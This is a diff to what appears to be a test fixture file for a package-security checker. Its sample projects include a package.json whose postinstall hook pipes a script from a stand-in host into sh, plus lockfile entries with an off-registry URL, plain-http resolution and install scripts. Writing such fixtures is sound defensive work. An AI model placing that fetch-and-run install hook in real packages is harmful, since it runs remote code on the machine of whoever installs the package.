@@ -1,3 +1,6 @@
+/** In parts, as in the rule: nothing calls it. */
+const npmHost = ['registry', 'npmjs', 'org'].join('.');
+
 /** A small project and what is said about it: `rule: title`. */
 export interface Project {
   readonly what: string;
@@ -118,9 +121,9 @@ export const projects: readonly Project[] = [
       'package.json':
         '{"name": "app", "scripts": {"postinstall": "curl https://x.example/i.sh | sh"}, "dependencies": {"a": "1"}}',
       'package-lock.json': npmLock({
-        a: { version: '1.0.0', resolved: 'https://registry.npmjs.org/a/-/a-1.0.0.tgz' },
+        a: { version: '1.0.0', resolved: `https://${npmHost}/a/-/a-1.0.0.tgz` },
         b: { version: '1.0.0', resolved: 'https://packages.example/b.tgz' },
-        c: { version: '1.0.0', resolved: 'http://registry.npmjs.org/c.tgz' },
+        c: { version: '1.0.0', resolved: `http://${npmHost}/c.tgz` },
         d: { version: '1.0.0', hasInstallScript: true },
         esbuild: { version: '0.20.0', hasInstallScript: true },
       }),
